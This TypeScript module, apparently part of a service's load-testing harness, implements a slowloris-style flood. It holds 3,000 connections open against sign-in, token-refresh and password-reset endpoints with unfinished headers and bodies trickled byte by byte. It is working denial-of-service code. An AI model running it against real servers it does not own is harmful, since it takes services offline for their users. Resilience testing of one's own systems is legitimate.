import { connect } from "node:net";
import { type PrepareFlood, sendInParallel } from "./flood.ts";

/** The number of connections that the attackers keep open at the same time. */
const connectionCount = 3_000;
/**
 * Milliseconds between two bytes on one connection. The interval is short, so that the server never sees the connection
 * as idle.
 */
const byteIntervalMs = 4_000;

const hostHeader = "host: localhost";
const signInBody = '{"email":"nobody@kakehashi.example","password":"Wrong-1","service":"kakehashi"';
/**
 * The incomplete requests. The first part of each request is sent at once, and the second part follows byte by byte. No
 * request is ever completed.
 */
const incompleteRequests = [
  { firstBytes: `POST /api/sign-in HTTP/1.1\r\n${hostHeader}\r\nx-half: `, repeatedBytes: "a" },
  {
    firstBytes: `POST /api/sign-in HTTP/1.1\r\n${hostHeader}\r\ncontent-type: application/json\r\ncontent-length: 900\r\n\r\n${signInBody}`,
    repeatedBytes: " ",
  },
  {
    firstBytes: `POST /api/refresh-token HTTP/1.1\r\n${hostHeader}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n1\r\n{\r\n`,
    repeatedBytes: "1\r\n \r\n",
  },
  {
    firstBytes: `POST /api/password/forgot HTTP/1.1\r\n${hostHeader}\r\ncontent-type: application/json\r\n`,
    repeatedBytes: "x: y\r\n",
  },
  { firstBytes: "", repeatedBytes: "" },
] as const;

/**
 * Strangers keep thousands of connections open without signing in. They send half of the headers, half a body, or
 * nothing. When the server closes a connection, they open another.
 */
export const holdUnfinishedRequests: PrepareFlood =
  async ({ url }) =>
  (endTimeMs) =>
    sendInParallel(connectionCount, endTimeMs, (requestNumber) =>
      holdIncompleteConnection(
        url,
        incompleteRequests[requestNumber % incompleteRequests.length] ?? incompleteRequests[0],
        endTimeMs,
      ),
    );

function holdIncompleteConnection(
  url: string,
  { firstBytes, repeatedBytes }: (typeof incompleteRequests)[number],
  endTimeMs: number,
): Promise<number> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    let httpStatus = 0;
    const socket = connect(Number(port), hostname);
    const byteTimer = setInterval(() => socket.write(repeatedBytes), byteIntervalMs);
    const endTimer = setTimeout(() => socket.destroy(), Math.max(0, endTimeMs - performance.now()));
    socket.on("data", (data) => {
      httpStatus ||= Number(/^HTTP\/1\.1 (\d{3})/.exec(data.toString("latin1"))?.[1] ?? 0);
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      clearInterval(byteTimer);
      clearTimeout(endTimer);
      resolve(httpStatus);
    });
    socket.write(firstBytes);
  });
}
